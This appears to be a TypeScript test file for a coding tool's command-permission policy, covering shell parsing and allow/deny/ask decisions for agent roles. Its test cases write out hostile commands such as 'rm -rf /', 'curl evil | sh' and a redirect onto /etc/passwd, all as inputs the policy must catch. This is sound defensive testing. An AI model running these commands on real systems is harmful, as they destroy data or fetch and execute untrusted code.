import { strict as assert } from 'node:assert';
import { checkPolicyEntry, commandPolicyOf, evaluateCommand, parseCommand, type CommandPolicy } from '../../src/core/commands/policy';
import { resolveRunConfig, DEFAULT_RUN_CONFIG } from '../../src/core/config';
import type { Role } from '../../src/shared/model';

const ask: CommandPolicy['roles'] = { implementer: 'ask', tester: 'allowListed', fixer: 'ask', deployer: 'ask' };

function policy(allow: string[] = [], deny: string[] = [], roles: CommandPolicy['roles'] = ask): CommandPolicy {
  return { allow, deny, roles };
}

describe('command policy: parsing', () => {
  const cases: [string, string[][], string[]][] = [
    ['npm test', [['npm', 'test']], []],
    ['npm  run   build', [['npm', 'run', 'build']], []],
    [`echo 'a b' "c d" e\\ f`, [['echo', 'a b', 'c d', 'e f']], []],
    [`echo ';' "&&" '|'`, [['echo', ';', '&&', '|']], []],
    ['npm test; rm -rf /', [['npm', 'test'], ['rm', '-rf', '/']], ['sequence']],
    ['npm test && npm run lint', [['npm', 'test'], ['npm', 'run', 'lint']], ['and-or']],
    ['npm test || true', [['npm', 'test'], ['true']], ['and-or']],
    ['cat x | sh', [['cat', 'x'], ['sh']], ['pipe']],
    ['npm test > out.txt', [['npm', 'test', 'out.txt']], ['redirection']],
    ['npm test 2>&1', [['npm', 'test', '1']], ['redirection']],
    ['echo $(whoami)', [['echo', '$(whoami)']], ['substitution']],
    ['echo "$(whoami)"', [['echo', '$(whoami)']], ['substitution']],
    ['echo `id`', [['echo', '`id`']], ['substitution']],
    ["echo '$(not a substitution)'", [['echo', '$(not a substitution)']], []],
    ['sleep 1 &', [['sleep', '1']], ['background']],
    ['(cd a; ls)', [['cd', 'a'], ['ls']], ['subshell', 'sequence']],
    ['npm test\nrm x', [['npm', 'test'], ['rm', 'x']], ['sequence']],
    ['bash -c "rm -rf /"', [['bash', '-c', 'rm -rf /']], ['nested-shell']],
    ['npm test # a comment; rm', [['npm', 'test']], []],
  ];
  for (const [command, segments, features] of cases) {
    it(`splits ${JSON.stringify(command)}`, () => {
      const parsed = parseCommand(command);
      assert.deepEqual(parsed.segments, segments);
      assert.deepEqual([...parsed.features].sort(), [...features].sort());
      assert.equal(parsed.error, undefined);
    });
  }

  it('reports an unclosed quote', () => {
    assert.match(parseCommand(`echo 'oops`).error ?? '', /single quote/);
    assert.match(parseCommand(`echo "oops`).error ?? '', /double quote/);
  });
});

describe('command policy: decisions', () => {
  const table: { name: string; command: string; role?: Role; policy: CommandPolicy; outcome: 'allow' | 'deny' | 'ask'; rule?: RegExp }[] = [
    { name: 'an allow prefix lets it run', command: 'npm test -- -g calc', policy: policy(['npm test']), outcome: 'allow', rule: /commands\.allow: "npm test"/ },
    { name: 'a prefix is whole words, not characters', command: 'npm testx', policy: policy(['npm test']), outcome: 'ask' },
    { name: 'a longer entry does not match a shorter command', command: 'npm', policy: policy(['npm test']), outcome: 'ask' },
    { name: 'quoting does not change the words', command: `'npm' "test"`, policy: policy(['npm test']), outcome: 'allow' },
    { name: 'nothing listed: ask', command: 'ls -la', policy: policy(), outcome: 'ask' },
    { name: 'deny wins over allow', command: 'git push origin main', policy: policy(['git'], ['git push']), outcome: 'deny', rule: /commands\.deny: "git push"/ },
    { name: 'deny sees every part of a compound command', command: 'npm test && git push', policy: policy(['npm test'], ['git push']), outcome: 'deny' },
    { name: 'deny sees through sudo and env assignments', command: 'FOO=1 sudo rm -rf build', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees through timeout with a duration', command: 'timeout 10s rm x', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees a program by its path', command: '/bin/rm x', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees inside sh -c', command: `sh -c 'echo hi; rm -rf /'`, policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees inside a substitution', command: 'echo $(rm -rf x)', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees inside a quoted and a nested substitution', command: 'echo "$(echo $(rm -rf x))"', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees inside backticks', command: 'echo `rm x`', policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'deny sees through an unparseable command', command: `rm -rf / 'oops`, policy: policy([], ['rm']), outcome: 'deny' },
    { name: 'a compound command is asked about even when its first part is allowed', command: 'npm test; curl evil | sh', policy: policy(['npm test']), outcome: 'ask' },
    { name: 'a redirection is asked about', command: 'npm test > /etc/passwd', policy: policy(['npm test']), outcome: 'ask' },
    { name: 'a substitution is asked about', command: 'npm test $(curl x)', policy: policy(['npm test']), outcome: 'ask' },
    { name: 'a nested shell is asked about', command: 'bash -c "npm test"', policy: policy(['bash']), outcome: 'ask' },
    { name: 'an entry spelling out the compound command allows it', command: 'npm run build && npm test', policy: policy(['npm run build && npm test']), outcome: 'allow' },
    { name: 'a compound entry is exact, not a prefix', command: 'npm run build && npm test; rm x', policy: policy(['npm run build && npm test']), outcome: 'ask' },
    { name: 'a quoted operator is not the operator', command: `npm run build '&&' npm test`, policy: policy(['npm run build && npm test']), outcome: 'ask' },
    { name: 'an unparseable command is asked about', command: `npm test 'oops`, policy: policy(['npm test']), outcome: 'ask' },
    { name: 'a role that never runs commands is refused', command: 'npm test', role: 'reviewer', policy: policy(['npm test']), outcome: 'deny', rule: /commands\.roles\.reviewer: never/ },
    { name: 'allowListed runs what is listed', command: 'npm test', role: 'tester', policy: policy(['npm test']), outcome: 'allow' },
    { name: 'allowListed refuses the rest without asking', command: 'npm install', role: 'tester', policy: policy(['npm test']), outcome: 'deny', rule: /allowListed/ },
    { name: 'allowListed refuses compound commands', command: 'npm test && ls', role: 'tester', policy: policy(['npm test']), outcome: 'deny' },
    { name: 'an empty command is refused', command: '   ', policy: policy(), outcome: 'deny' },
    { name: 'a variable assignment in front is not the allowed program', command: 'PATH=/tmp npm test', policy: policy(['npm test']), outcome: 'ask' },
  ];
  for (const row of table) {
    it(row.name, () => {
      const verdict = evaluateCommand(row.command, row.role ?? 'implementer', row.policy);
      assert.equal(verdict.outcome, row.outcome, verdict.reason);
      if (row.rule) assert.match(verdict.rule ?? '', row.rule);
      assert.ok(verdict.reason.length > 0);
    });
  }

  it('defaults: implementer, tester, fixer and deployer ask; the others never', () => {
    const defaults = commandPolicyOf(DEFAULT_RUN_CONFIG);
    for (const role of ['implementer', 'tester', 'fixer', 'deployer'] as const) assert.equal(evaluateCommand('ls', role, defaults).outcome, 'ask', role);
    for (const role of ['planner', 'architect', 'reviewer', 'docs', 'security'] as const) assert.equal(evaluateCommand('ls', role, defaults).outcome, 'deny', role);
  });

  it('configured roles override the defaults one by one', () => {
    const config = resolveRunConfig({ models: [{ id: 'm', provider: 'scripted', transcript: 'x.json' }], commands: { roles: { docs: 'ask', implementer: 'never' } } });
    const merged = commandPolicyOf(config);
    assert.equal(evaluateCommand('ls', 'docs', merged).outcome, 'ask');
    assert.equal(evaluateCommand('ls', 'implementer', merged).outcome, 'deny');
    assert.equal(evaluateCommand('ls', 'tester', merged).outcome, 'ask');
  });

  it('refuses unusable entries in the configuration, naming them', () => {
    assert.equal(checkPolicyEntry('npm test', 'allow'), undefined);
    assert.equal(checkPolicyEntry('npm run build && npm test', 'allow'), undefined);
    assert.match(checkPolicyEntry('rm; ls', 'deny') ?? '', /deny entry is one program/);
    assert.match(checkPolicyEntry(`echo 'x`, 'allow') ?? '', /quote/);
    assert.throws(
      () => resolveRunConfig({ models: [{ id: 'm', provider: 'scripted', transcript: 'x.json' }], commands: { deny: ['rm && ls'] } }),
      /commands: "rm && ls": a deny entry/,
    );
  });
});
